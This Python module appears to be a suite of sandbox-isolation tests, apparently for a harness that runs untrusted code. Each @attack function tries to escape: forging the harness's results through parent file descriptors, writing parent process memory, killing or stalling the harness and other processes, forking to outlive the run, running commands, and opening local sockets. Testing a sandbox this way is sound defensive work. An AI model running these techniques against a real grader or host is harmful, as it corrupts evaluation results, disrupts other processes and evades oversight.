"""Reach other programs, processes and sockets."""


@attack
def forge_the_next_results_through_the_parent(t):
    return each(
        *(
            lambda p=p, n=n: os.write(os.open(f"/proc/{p}/fd/{n}", os.O_WRONLY), FORGED * 2)
            for p in ancestors()
            for n in (1, 3, 4, 5)
        )
    )


@attack
def forge_the_next_results_through_descriptors(t):
    return each(*(lambda n=n: os.write(n, FORGED * 2) for n in range(3)))


@attack
def write_the_parents_memory(t):
    def write(pid):
        place = int(read(f"/proc/{pid}/maps").split("-")[0], 16)
        memory = os.open(f"/proc/{pid}/mem", os.O_RDWR)
        return ("s3cr3t", os.lseek(memory, place, 0))

    return each(*(lambda p=p: write(p) for p in (t["harness"], *ancestors())))


@attack
def write_the_parents_memory_by_process_vm_writev(t):
    return [
        "s3cr3t"
        for p in (t["harness"], *ancestors())
        if libc.process_vm_writev(
            p,
            struct.pack("PN", ctypes.addressof(ctypes.create_string_buffer(8)), 8),
            1,
            struct.pack("PN", 4096, 8),
            1,
            0,
        )
        >= 0
        or ctypes.get_errno() == 14
    ]


@attack
def stop_the_parent(t):
    return each(
        *(
            lambda p=p, s=s: os.kill(p, s)
            for p in (t["harness"], *ancestors())
            for s in (signal.SIGSTOP, signal.SIGKILL)
        )
    )


@attack
def stop_everybody(t):
    return each(
        *(
            lambda p=p, s=s: os.kill(p, s)
            for p in (-1, 0, t["bystander"], -t["bystander"])
            for s in (signal.SIGSTOP, signal.SIGKILL)
        ),
        lambda: os.killpg(0, 9),
    )


@attack
def signal_by_a_descriptors_owner(t):
    one, other = socket.socketpair()
    for pid in (t["harness"], t["bystander"], *ancestors()):
        each(lambda: fcntl.fcntl(one, 10, 9), lambda: fcntl.fcntl(one, fcntl.F_SETOWN, pid))
        each(lambda: fcntl.ioctl(one, 0x8901, struct.pack("i", pid)))
        each(lambda: fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK))
        each(lambda: other.send(b"x"))


@attack
def signal_by_pidfd_and_queue(t):
    return each(
        *(
            lambda p=p: [
                libc.syscall(424, libc.syscall(434, p, 0), 9, 0, 0),
                libc.syscall(129, p, 9, ctypes.create_string_buffer(128)),
            ]
            for p in (t["harness"], t["bystander"])
        )
    )


@attack
def lower_the_others_limits_and_priority(t):
    return each(
        *(
            a
            for p in (t["harness"], t["bystander"], *ancestors())
            for a in (
                lambda p=p: resource.prlimit(p, resource.RLIMIT_CPU, (0, 0)),
                lambda p=p: os.setpriority(os.PRIO_PROCESS, p, 19),
                lambda p=p: os.sched_setaffinity(p, {0}),
            )
        )
    )


@attack
def stay_alive(t):
    libc.prctl(1, 0, 0, 0, 0)
    return each(
        os.fork,
        lambda: libc.vfork() and 0,
        lambda: os.posix_spawn("/bin/sleep", ["sleep", "300"], {}),
        lambda: libc.syscall(56, 17, 0, 0, 0, 0),
        lambda: libc.syscall(
            435, ctypes.create_string_buffer(struct.pack("11Q", 0, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)), 88
        ),
    )


@attack
def run_a_command(t):
    return each(
        lambda: ["no", "s3cr3t"][os.system("true") == 0],
        lambda: ("s3cr3t", subprocess.run(["/bin/true"])),
        lambda: os.execv("/bin/echo", ["echo", "s3cr3t"]),
    )


@attack
def keep_shared_memory(t):
    return each(
        lambda: libc.shmget(4711, 1 << 20, 0o1666),
        lambda: libc.msgget(4711, 0o1666),
        lambda: libc.semget(4711, 1, 0o1666),
        lambda: libc.mq_open(b"/left", os.O_CREAT | os.O_RDWR, 0o666, None),
    )


@attack
def connect_by_TCP(t):
    socket.create_connection(("127.0.0.1", t["tcp"]), 1).send(b"connect_by_TCP")


@attack
def send_by_UDP(t):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"send_by_UDP", ("127.0.0.1", t["udp"]))


@attack
def connect_to_a_local_socket(t):
    s = socket.socket(socket.AF_UNIX)
    s.connect(t["unix"])
    s.send(b"connect_to_a_local_socket")


@attack
def connect_to_an_abstract_socket(t):
    s = socket.socket(socket.AF_UNIX)
    s.connect(t["abstract"])
    s.send(b"connect_to_an_abstract_socket")


@attack
def send_from_a_socket_pair(t):
    for target in (t["unix_datagram"], t["abstract_datagram"]):
        each(*(lambda s=s: s for s in socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)))
        one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        each(
            lambda: one.sendto(b"send_from_a_socket_pair", target),
            lambda: one.sendmsg([b"send_from_a_socket_pair"], [], 0, target),
            lambda: one.connect(target),
        )
        each(lambda: one.send(b"send_from_a_socket_pair"))


@attack
def listen(t):
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen()
    return "s3cr3t"
